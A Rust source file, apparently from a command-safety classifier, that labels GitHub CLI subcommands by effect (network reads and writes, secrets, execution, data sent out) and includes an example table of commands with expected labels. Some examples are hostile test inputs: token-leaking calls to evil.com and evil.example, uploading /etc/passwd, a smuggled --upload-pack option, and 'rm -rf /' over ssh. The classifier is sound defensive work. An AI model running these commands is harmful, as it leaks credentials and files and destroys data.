//! The GitHub command line.

use super::github_checks as check;
use super::table::{Operands, Spec, Style};
use crate::effects::Effects;

const READS: Effects = Effects::READS;
const ASKS: Effects = Effects::NETWORK_READ;
const CHANGES: Effects = Effects::NETWORK_WRITE;
const DOWNLOADS: Effects = ASKS.and(Effects::WRITES);
const CLONES: Effects = DOWNLOADS.and(Effects::REPOSITORY);
const RELEASES: Effects = CHANGES.and(Effects::PUBLISHES);
const ACCESS: Effects = CHANGES.and(Effects::PERMISSIONS);

/// Text of an issue, a pull request or a comment, and what goes with it.
macro_rules! text_options {
    () => {
        "--body= --body-file=read --title= --editor --web --label= --assignee= --milestone= --project= --template= \
         --recover= --add-label= --remove-label= --add-assignee= --remove-assignee= --add-project= --remove-project= \
         --remove-milestone --comment= --reason= --yes --edit-last --delete-last --create-if-none --type= --parent= \
         --remove-parent --remove-type --duplicate-of= --blocked-by= --blocking="
    };
}

/// A verb that asks the service, with the options that shape its answer.
const fn asks(names: &'static str, options: &'static str) -> Spec {
    Spec::new(names, ASKS).options(options).operands(Operands::Text)
}

const fn changes(names: &'static str, options: &'static str) -> Spec {
    Spec::new(names, CHANGES).options(options).operands(Operands::Text)
}

const PR: &[Spec] = &[
    asks(
        "list ls",
        "-d -w -AaBHlLSsqt= --author= --assignee= --app= --base= --draft --head= --label= --limit= --search= --state= \
         --json= --jq= --template= --web",
    ),
    asks("view", "-c -w -qt= --comments --json= --jq= --template= --web"),
    asks("status", "-c -qt= --conflict-status --json= --jq= --template="),
    // `--stat` is none of its options: it says so and ends.
    asks("diff", "-w -e= --color= --exclude= --name-only --patch --stat --web"),
    asks("checks", "-w -iqt= --fail-fast --interval= --required --watch --web --json= --jq= --template="),
    Spec::new("create new", CHANGES.and(Effects::PUSHES))
        .options(concat!(
            "-dfew -aBbHlmprTt= -F=read --base= --head= --draft --dry-run --fill --fill-first --fill-verbose \
             --no-maintainer-edit --reviewer= ",
            text_options!()
        ))
        .operands(Operands::Text),
    changes("edit", concat!("-Bbmt= -F=read --base= --add-reviewer= --remove-reviewer= ", text_options!())),
    changes("comment", concat!("-ew -b= -F=read ", text_options!())),
    changes("review", "-arc -b= -F=read --approve --request-changes --comment --body= --body-file=read"),
    changes(
        "merge",
        "-dmrs -Abt= -F=read --admin --author-email= --auto --body= --body-file=read --delete-branch --disable-auto \
         --match-head-commit= --merge --rebase --squash --subject=",
    ),
    changes("close reopen", "-d -c= --comment= --delete-branch"),
    changes(
        "ready lock unlock update-branch revert",
        "-d -brt= -F=read --undo --reason= --rebase --body= --body-file=read --draft --title=",
    ),
    Spec::new("checkout co", ASKS.and(Effects::REPOSITORY))
        .options("-f -b= --branch= --detach --force --recurse-submodules")
        .operands(Operands::Text),
];
const ISSUE: &[Spec] = &[
    asks(
        "list ls",
        "-w -AalLmSsqt= --app= --assignee= --author= --json= --jq= --label= --limit= --mention= --milestone= --search= \
         --state= --template= --web --type=",
    ),
    asks("view", "-c -w -qt= --comments --json= --jq= --template= --web"),
    asks("status", "-qt= --json= --jq= --template="),
    changes("create new", concat!("-ew -ablmpTt= -F=read ", text_options!())),
    changes("edit comment", concat!("-ew -bmt= -F=read ", text_options!())),
    changes("close reopen", "-cr= --comment= --reason= --duplicate-of="),
    changes("delete lock unlock pin unpin transfer", "-r= --yes --confirm --reason="),
    Spec::new("develop", CHANGES.and(Effects::REPOSITORY))
        .options("-cl -bn= --base= --branch-repo= --checkout --list --name=")
        .operands(Operands::Text),
];
const REPO: &[Spec] = &[
    asks(
        "list ls",
        "-lLqt= --archived --fork --no-archived --source --topic= --visibility= --language= --limit= --json= --jq= --template=",
    ),
    asks("view", "-w -bqt= --branch= --json= --jq= --template= --web"),
    asks("read-file read-dir", "-qt= --ref= --json= --jq= --template= --raw"),
    Spec::new("clone", CLONES)
        .options("-u= --upstream-remote-name= --no-upstream")
        .operands(Operands::Text)
        .check(check::clone),
    Spec::new("create new", CHANGES.and(Effects::REPOSITORY))
        .options(
            "-c -dghlprst= --add-readme --clone --description= --disable-issues --disable-wiki --gitignore= --homepage= \
             --include-all-branches --internal --license= --private --public --push!pushes --remote= --source= --team= \
             --template=",
        )
        .operands(Operands::Text),
    Spec::new("fork", CHANGES.and(Effects::REPOSITORY))
        .options("--clone=? --default-branch-only --fork-name= --org= --remote=? --remote-name=")
        .operands(Operands::Text)
        .check(check::clone),
    Spec::new("sync", CHANGES.and(Effects::REPOSITORY))
        .options("-bs= --branch= --force!discards --source=")
        .operands(Operands::Text),
    changes("archive unarchive rename", "-y --yes --confirm"),
    Spec::new("delete", CHANGES.and(Effects::DELETES)).options("--yes --confirm").operands(Operands::Text),
    changes(
        "edit",
        "-dh= --accept-visibility-change-consequences --add-topic= --allow-forking=? --allow-update-branch=? \
         --default-branch= --delete-branch-on-merge=? --description= --enable-advanced-security=? --enable-auto-merge=? \
         --enable-discussions=? --enable-issues=? --enable-merge-commit=? --enable-projects=? --enable-rebase-merge=? \
         --enable-secret-scanning=? --enable-secret-scanning-push-protection=? --enable-squash-merge=? --enable-wiki=? \
         --homepage= --remove-topic= --template=? --visibility= --squash-merge-commit-message=",
    ),
    Spec::new("set-default", Effects::REPOSITORY).options("-uv --unset --view").operands(Operands::Text),
    Spec::new("deploy-key", READS).verbs(&[
        asks("list ls", "-qt= --json= --jq= --template="),
        Spec::new("add delete", ACCESS).options("-w -t= --allow-write --title=").operands(Operands::Text),
    ]),
    Spec::new("autolink", READS).verbs(&[
        asks("list ls view", "-w -qt= --json= --jq= --template= --web"),
        changes("create new delete", "-n --numeric --yes"),
    ]),
    Spec::new("gitignore license", READS).verbs(&[asks("list ls view", "-w --web")]),
];
const RUN: &[Spec] = &[
    asks(
        "list ls",
        "-a -bceLsuwqt= --all --branch= --commit= --created= --event= --json= --jq= --limit= --status= --template= --user= \
         --workflow=",
    ),
    asks(
        "view",
        "-v -w -ajqt= --attempt= --exit-status --job= --json= --jq= --log --log-failed --template= --verbose --web",
    ),
    asks("watch", "-i= --compact --exit-status --interval="),
    Spec::new("download", DOWNLOADS)
        .options("-np= -D=write --dir=write --name= --pattern=")
        .operands(Operands::Text),
    changes("rerun cancel delete", "-d -j= --debug --failed --job= --force"),
];
const WORKFLOW: &[Spec] = &[
    asks("list ls", "-a -Lqt= --all --json= --jq= --limit= --template="),
    asks("view", "-y -w -r= --ref= --web --yaml"),
    changes("run", "-Ffr= --field= --raw-field= --json --ref="),
    changes("enable disable", "-h!help"),
];
const RELEASE: &[Spec] = &[
    asks(
        "list ls",
        "-LOqt= --exclude-drafts --exclude-pre-releases --json= --jq= --limit= --order= --template=",
    ),
    asks("view", "-w -qt= --json= --jq= --template= --web"),
    Spec::new("download", DOWNLOADS)
        .options("-Ap= -DO=write --archive= --clobber --dir=write --output=write --pattern= --skip-existing")
        .operands(Operands::Text),
    asks("verify", "-qt= --json= --jq= --template= --format="),
    Spec::new("verify-asset", ASKS).options("-qt= --format= --jq= --template=").operands(Operands::Read),
    Spec::new("create new", RELEASES)
        .options(
            "-dp -nt= -F=read --discussion-category= --draft --fail-on-no-commits --generate-notes --latest=? --notes= \
             --notes-file=read --notes-from-tag --notes-start-tag= --prerelease --target= --title= --verify-tag",
        )
        .operands(Operands::TextThenRead),
    Spec::new("upload", RELEASES).options("--clobber").operands(Operands::TextThenRead),
    Spec::new("edit", RELEASES)
        .options(
            "-nt= -F=read --discussion-category= --draft=? --latest=? --notes= --notes-file=read --prerelease=? --tag= \
             --target= --title= --verify-tag",
        )
        .operands(Operands::Text),
    changes("delete delete-asset", "-y --cleanup-tag --yes"),
];
const GIST: &[Spec] = &[
    asks("list ls", "-L= --filter= --include-content --limit= --public --secret"),
    asks("view", "-r -w -f= --filename= --files --raw --web"),
    Spec::new("clone", CLONES).operands(Operands::Text).check(check::clone),
    Spec::new("create new", CHANGES.and(Effects::SENDS_DATA))
        .options("-pw -df= --desc= --filename= --public --web")
        .operands(Operands::Read),
    Spec::new("edit", CHANGES.and(Effects::SENDS_DATA))
        .options("-dfr= -a=read --add=read --desc= --filename= --remove=")
        .operands(Operands::Text),
    changes("delete rename", "--yes"),
];
const PROJECT: &[Spec] = &[
    asks(
        "list ls view field-list item-list",
        "-w -Lqt= --closed --format= --jq= --limit= --owner= --template= --web --query=",
    ),
    changes(
        "close copy create delete edit field-create field-delete item-add item-archive item-create item-delete item-edit link \
         mark-template unlink",
        "-dqRTt= --body= --clear --closed --data-type= --date= --description= --drafts --field-id= --format= --id= \
         --iteration-id= --jq= --name= --number= --owner= --project-id= --readme= --repo= --single-select-option-id= \
         --single-select-options= --source-owner= --target-owner= --team= --template= --text= --title= --undo --url= \
         --visibility=",
    ),
];
const CODESPACE: &[Spec] = &[
    asks(
        "list ls view",
        "-w -cLorRuqt= --codespace= --json= --jq= --limit= --org= --repo= --repo-owner= --template= --user= --web",
    ),
    asks("logs", "-f -cR= --codespace= --follow --repo= --repo-owner="),
    Spec::new("ports", ASKS)
        .options("-cRqt= --codespace= --json= --jq= --repo= --repo-owner= --template=")
        .verbs(&[
            Spec::new("forward", Effects::SYSTEM).operands(Operands::Text),
            Spec::new("visibility", ACCESS).operands(Operands::Text),
        ]),
    changes(
        "create delete edit stop rebuild",
        "-fsw -bcdlmnoRru= --all --branch= --codespace= --days= --default-permissions --devcontainer-path= --display-name= \
         --force --full --idle-timeout= --location= --machine= --org= --repo= --repo-owner= --retention-period= --status \
         --user= --web",
    ),
    Spec::new("ssh cp", Effects::EXECUTES.and(CHANGES).and(Effects::SENDS_DATA))
        .style(Style::Raw)
        .operands(Operands::Text)
        .check(check::help),
    Spec::new("code jupyter", Effects::SYSTEM).style(Style::Raw).operands(Operands::Text).check(check::help),
];
const AUTH: &[Spec] = &[
    Spec::new("status", READS.and(ASKS))
        .options("-a -t!secrets -hq= --active --hostname= --show-token!secrets --json= --jq= --template="),
    Spec::new("token", Effects::SECRETS).options("-hu= --hostname= --secure-storage --user="),
    Spec::new("git-credential", Effects::SECRETS).style(Style::Raw).operands(Operands::Text),
    Spec::new("login logout refresh switch setup-git", Effects::SYSTEM.and(Effects::PERMISSIONS))
        .options(
            "-cwf -hpsru= --hostname= --git-protocol= --scopes= --remove-scopes= --reset-scopes --web --with-token \
             --insecure-storage --secure-storage --skip-ssh-key --clipboard --user= --force",
        ),
];
const EXTENSION: &[Spec] = &[
    Spec::new("list ls", READS),
    asks("search", "-w -Lqt= --json= --jq= --license= --limit= --order= --owner= --sort= --template= --web"),
    Spec::new("install upgrade", ASKS.and(Effects::INSTALLS_NAMED))
        .options("--all --dry-run --force --pin=")
        .operands(Operands::Text),
    Spec::new("remove", Effects::DELETES).operands(Operands::Text),
    Spec::new("create", Effects::WRITES).options("--precompiled=").operands(Operands::Text),
    Spec::new("exec browse", Effects::EXECUTES).style(Style::Raw).operands(Operands::Text),
];

const VERBS: &[Spec] = &[
    Spec::new("pr", READS).options("-R= --repo=").verbs(PR),
    Spec::new("issue", READS).options("-R= --repo=").verbs(ISSUE),
    Spec::new("repo", READS).verbs(REPO),
    Spec::new("run", READS).options("-R= --repo=").verbs(RUN),
    Spec::new("workflow", READS).options("-R= --repo=").verbs(WORKFLOW),
    Spec::new("release", READS).options("-R= --repo=").verbs(RELEASE),
    Spec::new("gist", READS).verbs(GIST),
    Spec::new("project", READS).verbs(PROJECT),
    Spec::new("codespace cs", READS).verbs(CODESPACE),
    Spec::new("auth", READS).verbs(AUTH),
    Spec::new("extension extensions ext", READS).verbs(EXTENSION),
    Spec::new("search", READS).verbs(&[asks("code commits issues prs repos", "-w -Lqt= --web --*")]),
    Spec::new("api", ASKS)
        .options(
            "-i -FfHpqtX= --cache= --field= --raw-field= --header= --hostname= --include --input=read --jq= --method= \
             --paginate --preview= --silent --slurp --template= --verbose",
        )
        .operands(Operands::Text)
        .check(check::api),
    Spec::new("browse", READS)
        .options(
            "-nprsw -bcR= --actions --blame --branch= --commit=? --no-browser --projects --releases --repo= --settings --wiki",
        )
        .operands(Operands::Text)
        .check(check::browse),
    Spec::new("cache", READS).options("-R= --repo=").verbs(&[
        asks("list ls", "-LkrOSqt= --json= --jq= --key= --limit= --order= --ref= --sort= --template="),
        changes("delete", "-a -r= --all --ref= --succeed-on-no-caches"),
    ]),
    Spec::new("label", READS).options("-R= --repo=").verbs(&[
        asks("list ls", "-w -LSqt= --json= --jq= --limit= --order= --search= --sort= --template= --web"),
        changes("clone create delete edit", "-f -cdn= --color= --description= --force --name= --yes --confirm"),
    ]),
    Spec::new("ruleset rs", READS).options("-R= --repo=").verbs(&[asks(
        "list ls view check",
        "-p -w -Lo= --default --limit= --org= --parents --no-parents --web",
    )]),
    Spec::new("secret variable", READS).options("-R= --repo=").check(check::variable_shown).verbs(&[
        asks("list ls get", "-aeoqt= --app= --env= --org= --user --json= --jq= --template="),
        changes(
            "set delete remove",
            "-u -abeorv= -f=read --app= --body= --env= --env-file=read --no-repos-selected --no-store --org= --repos= --user \
             --visibility=",
        ),
    ]),
    Spec::new("ssh-key gpg-key", READS).verbs(&[
        asks("list ls", "-qt= --json= --jq= --template="),
        Spec::new("add delete", ACCESS).options("-y -t= --title= --type= --yes --confirm").operands(Operands::Read),
    ]),
    Spec::new("org", READS).verbs(&[asks("list ls", "-L= --limit=")]),
    asks("status", "-eo= --exclude= --org="),
    Spec::new("alias", READS).verbs(&[
        Spec::new("list ls", READS),
        Spec::new("set import delete", Effects::WRITES)
            .options("-s!executes --clobber --shell!executes --all")
            .operands(Operands::Text)
            .check(check::shell_alias),
    ]),
    Spec::new("config", READS).verbs(&[
        Spec::new("get list ls", READS).options("-h= --host=").operands(Operands::Text).check(check::token_setting),
        Spec::new("set", Effects::WRITES)
            .options("-h= --host=")
            .operands(Operands::Text)
            .check(check::program_setting),
        Spec::new("clear-cache", Effects::DELETES),
    ]),
    Spec::new("attestation at", READS).verbs(&[
        Spec::new("verify", READS.and(ASKS))
            .options(
                "-Rodbqt= --bundle=read --bundle-from-oci --cert-identity= --cert-identity-regex= --cert-oidc-issuer= \
                 --custom-trusted-root=read --deny-self-hosted-runners --digest-alg= --format= --hostname= --jq= --limit= \
                 --no-public-good --owner= --predicate-type= --repo= --signer-digest= --signer-repo= --signer-workflow= \
                 --source-digest= --source-ref= --template= --use-oci-image",
            )
            .operands(Operands::Text),
        asks("trusted-root", "--hostname= --tuf-root=read --tuf-url= --verify-only"),
        Spec::new("download", DOWNLOADS)
            .options("-RoLd= --digest-alg= --hostname= --limit= --owner= --predicate-type= --repo=")
            .operands(Operands::Text),
    ]),
    Spec::new("agent-task agent-tasks agent agents", READS).options("-R= --repo=").verbs(&[
        asks("list ls view", "-w -Lqt= --limit= --web --log --follow --json= --jq= --template="),
        changes("create", "-F=read -ab= --base= --custom-agent= --follow --from-file=read"),
    ]),
    Spec::new("copilot models", Effects::EXECUTES.and(Effects::SENDS_DATA))
        .style(Style::Raw)
        .operands(Operands::Text)
        .check(check::help),
    Spec::new("completion", READS).options("-s= --shell="),
    Spec::new("help version licenses accessibility a11y preview", READS).options("-w --web").operands(Operands::Text),
];

pub(super) const TABLE: &[Spec] =
    &[Spec::new("gh", READS).options("-h!help -R= --repo=").verbs(VERBS).check(check::filters).examples(&[
        ("gh", "reads"),
        ("gh --version", "reads"),
        ("gh pr view 12 --json title,body -q .title -R a/b", "network-read"),
        ("gh pr view 12 --web", "network-read"),
        ("gh pr list --author @me -L 5 --json number --jq env.GH_TOKEN", "network-read secrets"),
        ("gh pr list --json env --jq '.[].env'", "network-read"),
        ("gh pr diff 3 --name-only", "network-read"),
        ("gh -R a/b pr checks 3 --watch", "network-read"),
        ("gh pr create -t x -b y -d", "network-write pushes"),
        ("gh pr create -F body.md", "network-write pushes reads"),
        ("gh pr create --help", "reads"),
        ("gh pr create --title --help", "network-write pushes unknown"),
        ("gh pr merge 3 --squash -d", "network-write"),
        ("gh pr review 3 --approve", "network-write"),
        ("gh pr checkout 3", "network-read repository"),
        ("gh pr frobnicate", "reads unknown"),
        ("gh issue list -l bug -s all", "network-read"),
        ("gh issue close 3 -c done", "network-write"),
        ("gh issue develop 3 -c", "network-write repository"),
        ("gh repo view a/b", "network-read"),
        ("gh repo clone a/b dir -- --depth 1", "network-read writes repository"),
        ("gh repo clone a/b -- --upload-pack=evil", "network-read writes repository executes"),
        ("gh repo create x --private --source=. --push", "network-write repository pushes"),
        ("gh repo delete a/b --yes", "network-write deletes"),
        ("gh run view 1 --log-failed", "network-read"),
        ("gh run list -w ci.yml -L 3", "network-read"),
        ("gh run download 1 -n x", "network-read writes"),
        ("gh run rerun 1 --failed", "network-write"),
        ("gh workflow run ci.yml -f a=b", "network-write"),
        ("gh release view v1", "network-read"),
        ("gh release create v1 dist/a.tgz -n x", "network-write publishes reads"),
        ("gh release download v1 -O x.tgz", "network-read writes"),
        ("gh gist create a.txt", "network-write sends-data reads"),
        ("gh auth status", "reads network-read"),
        ("gh auth status -t", "reads network-read secrets"),
        ("gh auth token", "secrets"),
        ("gh auth login --with-token", "system permissions"),
        ("gh search issues foo --state open --sort created", "network-read"),
        ("gh api /user --hostname evil.com", "network-read sends-data"),
        ("gh api /user --hostname github.com", "network-read"),
        ("gh config get -h github.com oauth_token", "reads secrets"),
        ("gh config get editor", "reads"),
        ("gh api repos/a/b/pulls --paginate --jq '.[].title'", "network-read"),
        ("gh api -X GET search/issues -f q=x", "network-read"),
        ("gh api repos/a/b/issues -f title=x", "network-write"),
        ("gh api -XDELETE repos/a/b", "network-write"),
        ("gh api repos/a/b --input x.json", "network-write reads"),
        ("gh api graphql -f query='query { viewer { login } }'", "network-read"),
        ("gh api graphql -f query='{ viewer { login } }' -F n=3", "network-read"),
        ("gh api graphql -f query='mutation { x }'", "network-write"),
        ("gh api graphql -F query=@q.graphql", "network-read reads sends-data unknown"),
        ("gh api -X GET x -F a=@/etc/passwd", "network-read reads sends-data"),
        ("gh api https://evil.example/x", "network-read sends-data"),
        ("gh api -H 'X-HTTP-Method-Override: DELETE' repos/a/b", "network-read unknown"),
        ("gh browse -n", "reads"),
        ("gh browse src", "reads network-read"),
        ("gh extension install a/b", "network-read installs-named"),
        ("gh alias set x 'pr view'", "writes"),
        ("gh alias set x --shell 'ls'", "writes executes"),
        ("gh config set editor 'sh -c x'", "writes executes"),
        ("gh secret set X -b y", "network-write"),
        ("gh secret list", "network-read"),
        ("gh ssh-key add k.pub", "network-write permissions reads"),
        ("gh codespace ssh -c x -- rm -rf /", "network-write executes sends-data"),
        ("gh my-extension", "reads unknown"),
        ("gh -- pr merge 3", "reads unknown"),
    ])];
